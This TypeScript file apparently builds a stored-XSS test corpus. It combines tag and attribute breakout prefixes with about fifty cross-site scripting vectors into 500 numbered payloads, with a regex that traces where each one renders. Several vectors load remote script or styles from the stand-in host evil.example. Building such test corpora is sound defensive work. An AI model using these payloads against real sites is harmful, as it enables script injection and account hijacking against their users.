import { exactly, joined } from './parts.ts'

/** Ways out of where a text stands: a tag, an attribute, a title, a comment. */
const outs = ['', '">', "'>", '" ', "' ", '</title>', '</textarea>', '</script>', '-->', ']]>']

const run = 'alert(1)'
const vectors = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/x>${run}</script >`,
  '<script src=//evil.example/x.js></script>',
  `<<script>${run}//<</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="x" onerror="${run}">`,
  '<img/src=`x`onerror=alert`1`>',
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=9 y=9>x</text></a></svg>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<a href=" javascript:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="JaVaScRiPt:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"</style>',
  '<style>*{background:url(//evil.example)}</style>',
  `<x style="animation-name:x" onanimationstart=${run}>`,
  `onmouseover=${run} x=`,
  `onfocus=${run} autofocus tabindex=1 x=`,
  `javascript:${run}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `＜script＞${run}＜/script＞`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `\u2066\u2066<script>${run}</script> (på svenska)\u2069`,
]

/** Each begins with a word of its own: where it is found, the stored text is shown. */
export const scripts: readonly string[] = exactly(500, joined(outs, vectors)).map(
  (payload, at) => `kx${String(at).padStart(3, '0')}z${payload}`,
)
export const markOf = /kx(\d{3})z/g
